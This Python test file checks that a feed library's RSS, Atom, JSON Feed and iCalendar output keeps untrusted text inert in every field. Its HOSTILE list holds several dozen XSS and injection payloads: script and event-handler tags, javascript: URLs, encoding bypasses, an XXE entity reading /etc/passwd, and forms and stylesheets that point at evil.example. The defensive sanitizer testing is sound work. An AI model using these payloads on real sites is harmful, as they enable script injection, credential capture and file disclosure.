"""Markup of strangers stays text: nothing that could run comes out of any field in any format."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import html5lib
import pytest
from lxml import etree

from feeds.syndication.formats import FORMATS
from storage.types import EventDate, Evidence, Tag
from tests.syndication_samples import DAY, EVENT, document, entry

if TYPE_CHECKING:
    from collections.abc import Iterator

# The classes of attack, each in our own words: elements, handlers, addresses, foreign markup, broken markup, encodings.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<body onload=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p>open <b>and never closed <i><u>",
    "</p></div></content></entry></item></channel></rss><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</\x00script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "BEGIN:VCALENDAR\r\nATTACH:javascript:alert(1)\r\nEND:VCALENDAR",
]
PLAIN = {"p", "br", "html", "head", "body"}
OURS = ("p", {"lang": "en"})  # the sentence on the date


def written_with(text: str) -> dict[str, bytes]:
    """The feed of one entry that says this text in each field that an article or an authority can fill."""
    evidence = (Evidence(text, "title", 0, text),)
    fields: dict[str, Any] = {
        "title": text,
        "summary": text,
        "body": text,
        "authors": (text,),
        "source": text,
        "notes": (text,),
        "language": text,
        "url": text if ":" in text.split("<", maxsplit=1)[0] else f"https://news.example/{text}",
        "tags": (Tag("topic", text, "mentioned", 0.5, evidence),),
        "published": DAY,
        "events": (EventDate(EVENT.first, EVENT.last, text, evidence=evidence, key="1-0"),),
    }
    told = document(entry(**fields), label=text)
    return {suffix: form.write(told) for suffix, form in FORMATS.items()}


def markup_of(written: dict[str, bytes]) -> Iterator[str]:
    """Every string that a reader takes for HTML."""
    rss, atom = etree.fromstring(written["rss"]), etree.fromstring(written["atom"])
    for path in ("channel/item/description", "channel/item/{*}encoded"):
        yield from (element.text or "" for element in rss.iterfind(path))
    yield from (
        element.text or "" for element in atom.iter("{*}summary", "{*}content") if element.get("type") == "html"
    )
    yield json.loads(written["json"])["items"][0]["content_html"]


def check(text: str) -> None:
    written = written_with(text)
    for markup in markup_of(written):
        for element in html5lib.parse(markup, treebuilder="lxml", namespaceHTMLElements=False).iter():
            assert (element.tag, dict(element.attrib)) in [*((name, {}) for name in PLAIN), OURS], markup
    for root in (etree.fromstring(written["rss"]), etree.fromstring(written["atom"])):
        for element in root.iter():
            named = [element.get(name) or "" for name in ("href", "url", "src", "scheme", "domain")]
            if etree.QName(element).localname == "link":
                named.append(element.text or "")
            assert all(not value.strip() or value.startswith("https://") or "urn:" in value for value in named), named
    assert all(item["url"].startswith("https://") for item in json.loads(written["json"])["items"])
    lines = written["ics"].decode().split("\r\n")
    assert not [line for line in lines if line.startswith("ATTACH")]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_script_survives_in_any_field(text: str) -> None:
    check(text)


CORPUS = os.environ.get("FEEDPARSER_TESTS", "")


@pytest.mark.slow
@pytest.mark.skipif(not CORPUS, reason="FEEDPARSER_TESTS does not name the folder of feedparser's tests")
def test_no_script_of_feedparsers_corpus_survives() -> None:
    """Its cases for sanitizers, read from where they lie, as the text of an article."""
    found = sorted((Path(CORPUS) / "wellformed" / "sanitize").glob("*.xml"))
    assert len(found) > 700
    for path in found:
        check(path.read_bytes().decode("utf-8", "replace"))
